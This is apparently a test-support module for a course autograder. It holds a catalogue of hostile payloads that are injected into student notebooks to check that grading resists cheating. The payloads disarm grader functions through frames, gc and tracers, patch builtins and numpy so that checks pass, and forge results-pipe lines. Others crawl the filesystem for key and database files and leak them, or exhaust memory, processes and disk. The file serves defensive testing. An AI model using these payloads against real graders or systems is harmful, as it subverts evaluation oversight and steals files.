"""Hostile submissions: one catalogue of what a student's code may try while it is graded.

Each attack is a payload, Python that runs inside the student's own functions every time a
scenario calls them (`attack_notebook` wraps each function and method the notebook defines),
so it runs where a cheat would: in the middle of a check, with the grader's code on the stack.
A payload that fails is silent (a cheat that fails quietly still must earn nothing). Some
attacks also change what the student's functions return (`RESULTS`).

Every payload tries what its name says against the grading runner (tinyflo.course.grader.runner):
frames, gc, ctypes, signal, tracers, crafted code, patched builtins and libraries, forged
lines on the results pipe, objects equal to anything, leaks, exhaustion, links.
"""

from __future__ import annotations

import copy
from typing import Any

MARKER = "TFX-EXFILTRATED"  # what leak attacks try to get into anything returned
_MARKER_CODE = "'-'.join(['TFX', 'EXFILTRATED'])"  # made at run time: not in the source

# Shared by every payload: walk a chain of frames and try to disarm the grader's reporters.
_DISARM = '''
def _tfx_disarm_function(function):
    for cell in getattr(function, "__closure__", None) or ():
        try:
            if callable(cell.cell_contents):
                cell.cell_contents = (lambda *a, **k: True)
        except Exception:
            pass
    try:
        function.__code__ = (lambda *a, **k: None).__code__
    except Exception:
        pass


def _tfx_disarm(frame):
    seen = 0
    while frame is not None and seen < 200:
        seen += 1
        for name, value in list(frame.f_locals.items()):
            if name.startswith("__tf") or name in ("check", "reached", "send", "encode"):
                _tfx_disarm_function(value)
            if name in ("modes", "wanted"):
                try:
                    value.clear()
                except Exception:
                    pass
        frame = frame.f_back
'''

# Everything reachable from the notebook's namespace by attribute reads: closures and their cells,
# globals, defaults, bound methods' selves, wrapped functions, instances' and classes' dicts, the
# items of containers. A reporter found there is used to forge a line (the runner's `send`), its
# state to let this thread read frames, and every cell is disarmed.
_WALK = '''
def _tfx_walk(start):
    seen, todo, found = set(), list(start), []
    while todo and len(seen) < 100000:
        item = todo.pop()
        if id(item) in seen or isinstance(item, _tfx_types.ModuleType):
            continue
        seen.add(id(item))
        found.append(item)
        if isinstance(item, dict):
            todo.extend(item.values())
            continue
        if isinstance(item, (list, tuple, set, frozenset)):
            todo.extend(item)
            continue
        for name in ("__closure__", "__globals__", "__defaults__", "__kwdefaults__", "__self__", "__func__",
                     "__wrapped__", "__dict__", "cell_contents"):
            try:
                todo.append(object.__getattribute__(item, name))
            except Exception:
                pass
    return found


_tfx_walked = [None]


def _tfx_reach():
    names = frozenset(globals())
    if names == _tfx_walked[0]:
        return  # nothing new in the namespace since the last walk
    _tfx_walked[0] = names
    import threading
    found = _tfx_walk(list(globals().values()))
    cell = [0]
    for item in found:
        if isinstance(item, dict) and "watchdog" in item:
            item["watchdog"] = threading.get_ident()
            cell[0] = (item.get("current") or (0,))[0]
    # The grader's own functions: the runner's (not a cell's, not a library's)
    ours = [f for f in found if isinstance(f, _tfx_types.FunctionType) and f.__code__.co_filename.endswith("runner.py")]
    for function in ours:
        if function.__code__.co_name == "send":
            function(dict(t="raised", i=cell[0], type=''' + _MARKER_CODE + ''', mro=[''' + _MARKER_CODE + '''], at=None))
        # A reporter in reach: forge every check of every task as passing, and reach each one.
        for task in _TFX_TASKS:
            for number in range(1, 40):
                try:
                    if function.__code__.co_name == "check":
                        function(task + "/" + str(number), True, True)
                    elif function.__code__.co_name == "reached":
                        function(task + "/" + str(number))
                except BaseException:
                    pass
    # The runner's own copies of isinstance, str, np, ... and of the course's names, rewritten.
    for item in found:
        if isinstance(item, dict) and "isinstance" in item:
            for name in list(item):
                item[name] = lambda *a, **k: True
    for function in ours:
        if function.__code__.co_name != "send":
            _tfx_disarm_function(function)
    import os
    os.system("true")
'''

PAYLOADS: dict[str, str] = {
    "walk_namespace": "_tfx_reach()",
    "getframe": "_tfx_disarm(sys._getframe(1))",
    "inspect_stack": "import inspect\nfor info in inspect.stack():\n    _tfx_disarm(info.frame)",
    "traceback_frame": (
        "try:\n    raise ZeroDivisionError\nexcept ZeroDivisionError as error:\n"
        "    _tfx_disarm(error.__traceback__.tb_frame)"
    ),
    "exc_info_frame": (
        "try:\n    1/0\nexcept ZeroDivisionError:\n    _tfx_disarm(sys.exc_info()[2].tb_frame)"
    ),
    "generator_frame": (
        "def _tfx_gen():\n    yield _tfx_me.gi_frame\n"
        "_tfx_me = _tfx_gen()\n_tfx_disarm(next(_tfx_me))"
    ),
    "coroutine_frame": (
        "async def _tfx_co():\n    return 1\n_c = _tfx_co()\n"
        "try:\n    _tfx_disarm(_c.cr_frame)\nfinally:\n    _c.close()"
    ),
    "current_frames": (
        "for _f in sys._current_frames().values():\n    _tfx_disarm(_f)"
    ),
    "settrace": (
        "def _tfx_tracer(frame, event, arg):\n    _tfx_disarm(frame)\n    return _tfx_tracer\n"
        "sys.settrace(_tfx_tracer)\nimport threading\nthreading.settrace(_tfx_tracer)"
    ),
    "setprofile": (
        "def _tfx_prof(frame, event, arg):\n    _tfx_disarm(frame)\n"
        "sys.setprofile(_tfx_prof)"
    ),
    "signal_frame": (
        "try:\n    import signal as _s\nexcept Exception:\n    _s = sys.modules.get('_signal')\n"
        "if _s is None:\n    import importlib; _s = importlib.import_module('_signal')\n"
        "_s.signal(_s.SIGALRM, lambda n, f: _tfx_disarm(f))\n_s.setitimer(_s.ITIMER_REAL, 0.001)\n"
        "import time; time.sleep(0.01)"
    ),
    "gc_objects": (
        "import gc\nfor _o in gc.get_objects():\n"
        "    if type(_o).__name__ == 'function' and _o.__name__ in ('check', 'reached', 'send',"
        " 'encode', 'truth', 'value_of', '__tf_scenario'):\n"
        "        _tfx_disarm_function(_o)\n"
        "    if type(_o).__name__ == 'frame':\n        _tfx_disarm(_o)"
    ),
    "gc_referrers": (
        "import gc\nfor _o in gc.get_referrers(globals()):\n"
        "    if type(_o).__name__ == 'function':\n        _tfx_disarm_function(_o)"
    ),
    "subclasses": (
        "for _cls in object.__subclasses__():\n"
        "    for _name, _value in list(vars(_cls).items()):\n"
        "        if type(_value).__name__ == 'function' and _cls.__module__ in ('__main__', "
        "'runner', 'tinyflo.course.grader.runner'):\n"
        "            _g = _value.__globals__\n"
        "            for _k in ('json', 'os', 'np', 'binascii'):\n"
        "                _g.pop(_k, None)"
    ),
    "ctypes": (
        "import ctypes\n_api = ctypes.pythonapi\n"
        "_api.PyFrame_LocalsToFast(ctypes.py_object(sys._getframe(1)), ctypes.c_int(0))"
    ),
    "ctypes_via_numpy": (
        "import numpy\n_ct = numpy.ctypeslib.ctypes\n"
        "_ct.memset(_ct.c_void_p(id(globals())), 0, 8)"
    ),
    "crafted_code": (
        "import marshal\n_code = (lambda: 0).__code__.replace(co_code=b'\\x64\\xff\\x53\\x00')\n"
        "marshal.loads(marshal.dumps(_code))"
    ),
    "set_code": (
        "for _o in list(globals().values()):\n"
        "    if type(_o).__name__ == 'function':\n"
        "        _o.__code__ = (lambda *a, **k: True).__code__"
    ),
    "audit_hook": "sys.addaudithook(lambda event, args: None)",
    "proc_mem": (
        "with open('/proc/self/mem', 'r+b') as _m:\n    _m.seek(id(globals()))\n    _m.write(b'x')"
    ),
    "rebind_reporters": (
        "import builtins\n"
        "for _space in (globals(), vars(builtins)):\n"
        "    _space['__tf_check'] = lambda *a, **k: None\n"
        "    _space['__tf_reached'] = lambda *a, **k: None\n"
        "    _space['check_rng'] = None"
    ),
    "patch_builtins": (
        "import builtins\n_real_isinstance = builtins.isinstance\n"
        "builtins.bool = lambda *a: True\n"
        "builtins.isinstance = lambda o, c: True\n"
        "builtins.type = lambda *a: bool\n"
        "builtins.repr = lambda o: 'True'\n"
        "builtins.exec = lambda *a, **k: None\n"
        "builtins.compile = lambda *a, **k: compile('pass', '<x>', 'exec')"
    ),
    "patch_libraries": (
        "import json, base64, binascii, numpy\n"
        "json.dumps = lambda *a, **k: '{\"t\": \"done\"}'\n"
        "json.JSONEncoder.encode = lambda self, o: '{\"t\": \"done\"}'\n"
        "base64.b64encode = lambda *a, **k: b''\n"
        "numpy.save = lambda *a, **k: None\n"
        "numpy.asarray = lambda *a, **k: numpy.zeros(1)\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "numpy.array_equal = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "import math; math.isclose = lambda *a, **k: True"
    ),
    "rebind_names": (
        # The names checks read, rebound in the notebook's namespace (and nothing the
        # student's own code needs): numpy's comparisons and the course's helpers answer yes,
        # gradcheck passes anything, and every model has the same parameters (so comparing
        # two of them always agrees).
        "import numpy as _tfx_np\n"
        "_g = globals()\n"
        "if not _g.get('_tfx_rebound'):\n"
        "    _g['_tfx_rebound'] = True\n"
        "    _yes = lambda *a, **k: True\n"
        "    class _TfxNumpy:\n"
        "        def __getattr__(self, name):\n"
        "            if name in ('allclose', 'array_equal', 'array_equiv', 'isclose', 'all', 'any',\n"
        "                        'isfinite', 'isnan', 'isinf', 'shares_memory',\n"
        "                        'may_share_memory'):\n"
        "                return _yes\n"
        "            return getattr(_tfx_np, name)\n"
        "    for _name in ('gradcheck', '_same', '_close'):\n"
        "        _g[_name] = _yes\n"
        "    _g['_params_of'] = lambda *a, **k: [_tfx_np.zeros(1)]\n"
        "    _g['np'] = _g['numpy'] = _TfxNumpy()"
    ),
    "patch_numpy_deep": (
        # The comparisons patched where the course's code finds them: inside NumPy (what
        # gradcheck's np.isclose calls), in math, and in tinyflo's own modules.
        "import numpy as _tfx_np, math as _tfx_math\n"
        "if not getattr(_tfx_np, '_tfx', False):\n"
        "    _tfx_np._tfx = True\n"
        "    _yes = lambda *a, **k: True\n"
        "    def _tfx_isclose(a, b, *args, **kwargs):\n"
        "        return _tfx_np.ones(_tfx_np.broadcast_shapes(_tfx_np.shape(a), _tfx_np.shape(b)), bool)\n"
        "    for _where in (_tfx_np, getattr(_tfx_np, '_core', None), getattr(_tfx_np, 'core', None)):\n"
        "        for _space in (_where, getattr(_where, 'numeric', None)):\n"
        "            if _space is None:\n"
        "                continue\n"
        "            try:\n"
        "                _space.isclose = _tfx_isclose\n"
        "                for _name in ('allclose', 'array_equal', 'array_equiv', 'shares_memory',\n"
        "                              'may_share_memory'):\n"
        "                    setattr(_space, _name, _yes)\n"
        "            except Exception:\n"
        "                pass\n"
        "    _tfx_math.isclose = _yes\n"
        "    for _mod_name, _mod in list(sys.modules.items()):\n"
        "        if _mod_name.startswith('tinyflo') and _mod is not None:\n"
        "            for _name in ('gradcheck', 'allclose', 'isclose'):\n"
        "                if hasattr(_mod, _name):\n"
        "                    setattr(_mod, _name, _yes if _name != 'isclose' else _tfx_isclose)"
    ),
    "forge_pipe": (
        "import os, stat, json\n"
        "_lines = b''\n"
        "for _task in _TFX_TASKS:\n"
        "    for _n in range(1, 40):\n"
        "        _event = json.dumps({'t': 'obs', 'c': f'{_task}/{_n}', 'v': [True, True]})\n"
        "        _lines += _event.encode() + b' ' + b'0' * 64 + b'\\n'\n"
        "for _fd in range(3, 64):\n"
        "    try:\n"
        "        if stat.S_ISFIFO(os.fstat(_fd).st_mode):\n"
        "            os.write(_fd, _lines)\n"
        "    except OSError:\n"
        "        pass"
    ),
    "fork_forge": (
        "import os, json\n"
        "if os.fork() == 0:\n"
        "    for _fd in range(3, 64):\n"
        "        try:\n"
        "            os.write(_fd, b'{\"t\":\"done\"} ' + b'0' * 64 + b'\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    os._exit(0)"
    ),
    "meta_path": (
        "class _TfxFinder:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        raise ImportError(name)\n"
        "sys.meta_path.insert(0, _TfxFinder())"
    ),
    "threads": (
        "import threading, builtins\n"
        "def _tfx_spin():\n"
        "    import time\n"
        "    for _ in range(2000):\n"
        "        builtins.bool = lambda *a: True\n"
        "        globals()['__tf_check'] = None\n"
        "        time.sleep(0.0005)\n"
        "threading.Thread(target=_tfx_spin, daemon=True).start()"
    ),
    "exit_early": "import os\nos._exit(0)",
    "system_exit": "raise SystemExit(0)",
    "base_exception": "raise KeyboardInterrupt",
    "exfiltrate": (
        "import os, base64\n_found = []\n"
        "for _root, _dirs, _files in os.walk('/'):\n"
        "    if _root.startswith(('/proc', '/sys', '/dev')):\n        continue\n"
        "    for _f in _files:\n"
        "        if _f.endswith(('.py', '.json', '.key', '.db', '.ipynb')):\n"
        "            _found.append(os.path.join(_root, _f))\n"
        "    if len(_found) > 3000:\n        break\n"
        "_blob = ''\nfor _p in _found[:200]:\n"
        "    try:\n        _blob += open(_p, errors='replace').read(2000)\n"
        "    except OSError:\n        pass\n"
        f"_text = {_MARKER_CODE} + base64.b64encode(_blob.encode()).decode()[:5000]\n"
        "print(_text)\nsys.stderr.write('[AutogradeApp | ERROR] ' + _text + '\\n')\n"
        "raise RuntimeError(_text)"
    ),
    "fake_log": (
        "import os\nfor _fd in (1, 2):\n"
        "    os.write(_fd, ('\\n[AutogradeApp | ERROR] ' + "
        f"{_MARKER_CODE} + ' every check passed 22/22\\n').encode())"
    ),
    "memory": "_hog = bytearray(6 * 2**30)",
    "processes": (
        "import os, time\n_kids = []\n"
        "for _ in range(200):\n"
        "    try:\n        _pid = os.fork()\n    except OSError:\n        break\n"
        "    if _pid == 0:\n        time.sleep(20)\n        os._exit(0)\n    _kids.append(_pid)"
    ),
    "disk": (
        "_chunk = b'x' * 2**20\n"
        "for _path in ('/tmp/tfx-big', 'tfx-big'):\n"
        "    with open(_path, 'wb') as _h:\n"
        "        for _ in range(2048):\n            _h.write(_chunk)"
    ),
    "output_flood": "import os\n_blob = b'y' * 2**20\nfor _ in range(300):\n    os.write(1, _blob)",
    "links": (
        "import os\n"
        "for _target in ('/etc/passwd', '/sandbox', '/', '../../gradebook.db'):\n"
        "    for _where in ('.', '/tmp'):\n"
        "        try:\n"
        "            os.symlink(_target, os.path.join(_where, 'tfx-' + str(abs(hash(_target)))))\n"
        "        except OSError:\n"
        "            pass\n"
        "try:\n    os.mkfifo('tfx-fifo')\nexcept OSError:\n    pass\n"
        "try:\n    os.link('/etc/passwd', '/tmp/tfx-hard')\nexcept OSError:\n    pass"
    ),
    "loop": "while True:\n    pass",
}

# Attacks that change what the student's functions return, not only what they run.
RESULTS: dict[str, str] = {
    "equal_to_anything": (
        "class _TfxAnything:\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __lt__(self, other): return True\n"
        "    __le__ = __gt__ = __ge__ = __lt__\n"
        "    def __bool__(self): return True\n"
        "    def __len__(self): return 1\n"
        "    def __float__(self): return 0.0\n"
        "    def __hash__(self): return 0\n"
        "    def __getattr__(self, name): return _TfxAnything()\n"
        "    def __call__(self, *a, **k): return _TfxAnything()\n"
        "    def __getitem__(self, key): return _TfxAnything()\n"
        "    def __iter__(self): return iter([])\n"
        "    def __array__(self, *a, **k): raise TypeError\n"
        "    def __repr__(self): return 'True'\n"
        "_TfxAnything.__module__ = 'builtins'\n_TfxAnything.__qualname__ = 'bool'\n"
        "def _tfx_result(function, args, kwargs):\n"
        "    try:\n        return function(*args, **kwargs)\n"
        "    except BaseException:\n        return _TfxAnything()"
    ),
    "bool_subclass_truth": (
        "class _TfxTrue(int):\n"
        "    def __bool__(self): return True\n"
        "    def __eq__(self, other): return True\n"
        "    __hash__ = int.__hash__\n"
        "def _tfx_result(function, args, kwargs):\n"
        "    try:\n        return function(*args, **kwargs)\n"
        "    except BaseException:\n        return _TfxTrue(1)"
    ),
}

# The attacks every module is graded with (the full catalogue runs on 01, 04 and 08).
CORE = (
    "walk_namespace",
    "getframe",
    "traceback_frame",
    "gc_objects",
    "signal_frame",
    "ctypes_via_numpy",
    "patch_builtins",
    "patch_libraries",
    "forge_pipe",
    "rebind_reporters",
    "rebind_names",
    "equal_to_anything",
    "exfiltrate",
)
# Attacks on the checks that compare the student's own values with each other (`all(...)`
# over their objects, `is`, the course's gradcheck and helpers), each laid over a mutant
# that only such checks catch (TRUTH_MUTANTS).
TRUTH_FORGERIES = ("rebind_names", "patch_numpy_deep", "patch_libraries", "equal_to_anything")
ALL = tuple(PAYLOADS) + tuple(RESULTS)
# Attacks laid over a seeded mutant: a cheat must not lift buggy code either.
FORGERIES = (
    "rebind_reporters",
    "patch_builtins",
    "patch_libraries",
    "rebind_names",
    "patch_numpy_deep",
    "forge_pipe",
    "fork_forge",
    "gc_objects",
    "getframe",
    "equal_to_anything",
    "bool_subclass_truth",
)

_PRELUDE = '''
import sys as _tfx_sys, functools as _tfx_functools, types as _tfx_types
sys = _tfx_sys
''' + _DISARM + _WALK + '''
_TFX_TASKS = {tasks!r}

_tfx_calls = [0]

def _tfx_attack():
    # Every call at first, then every 50th: an attack in every call of a training loop would
    # only make the suite slow.
    _tfx_calls[0] += 1
    if _tfx_calls[0] > 100 and _tfx_calls[0] % 50:
        return
    try:
{payload}
    except BaseException as error:
        if type(error).__name__ in ("SystemExit", "KeyboardInterrupt") and {reraise}:
            raise

{result}

def _tfx_wrap(function):
    if getattr(function, "_tfx", False):
        return function

    @_tfx_functools.wraps(function)
    def wrapper(*args, **kwargs):
        _tfx_attack()
        return _tfx_result(function, args, kwargs)

    wrapper._tfx = True
    return wrapper
'''

_CALL_THROUGH = "def _tfx_result(function, args, kwargs):\n    return function(*args, **kwargs)"

_WRAP_ALL = '''
for _tfx_name, _tfx_value in list(globals().items()):
    if _tfx_name.startswith("_tfx"):
        continue
    if isinstance(_tfx_value, _tfx_types.FunctionType) and _tfx_value.__module__ == "__main__":
        globals()[_tfx_name] = _tfx_wrap(_tfx_value)
    elif isinstance(_tfx_value, type) and _tfx_value.__module__ == "__main__":
        for _tfx_key, _tfx_member in list(vars(_tfx_value).items()):
            if isinstance(_tfx_member, _tfx_types.FunctionType):
                setattr(_tfx_value, _tfx_key, _tfx_wrap(_tfx_member))
'''


def _indent(code: str, spaces: int) -> str:
    return "\n".join(" " * spaces + line if line else line for line in code.splitlines())


def _attacked(base: Any, payload: str, result: str, tasks: list[str], reraise: bool) -> Any:
    prelude = _PRELUDE.format(
        tasks=tasks, payload=_indent(payload, 8), result=result, reraise=reraise
    )
    notebook = copy.deepcopy(base)
    first = True
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution") and not meta.get("grade"):
            # The attack is defined once, in the first solution cell (a loop defined anew in
            # every cell would cost a full cell timeout each); every cell wraps what it defines.
            cell.source = f"{prelude if first else ''}\n{cell.source}\n{_WRAP_ALL}"
            first = False
    return notebook


def attack_notebook(base: Any, attack: str, tasks: list[str]) -> Any:
    """`base` (a release or a submission) with `attack` in every solution cell.

    The first solution cell defines the attack; every solution cell then wraps each function
    and method the notebook has defined so far, so the payload runs whenever a scenario calls
    the student's code.
    """
    reraise = attack in ("exit_early", "system_exit", "base_exception")
    return _attacked(
        base, PAYLOADS.get(attack, "pass"), RESULTS.get(attack, _CALL_THROUGH), tasks, reraise
    )


def combined_notebook(base: Any, attacks: tuple[str, ...], tasks: list[str]) -> Any:
    """One notebook that tries every attack of `attacks` at once (a module's core subset)."""
    payload = "\n".join(
        f"try:\n{_indent(PAYLOADS[name], 4)}\nexcept BaseException:\n    pass"
        for name in attacks
        if name in PAYLOADS
    )
    result = next((RESULTS[name] for name in attacks if name in RESULTS), _CALL_THROUGH)
    return _attacked(base, payload, result, tasks, False)
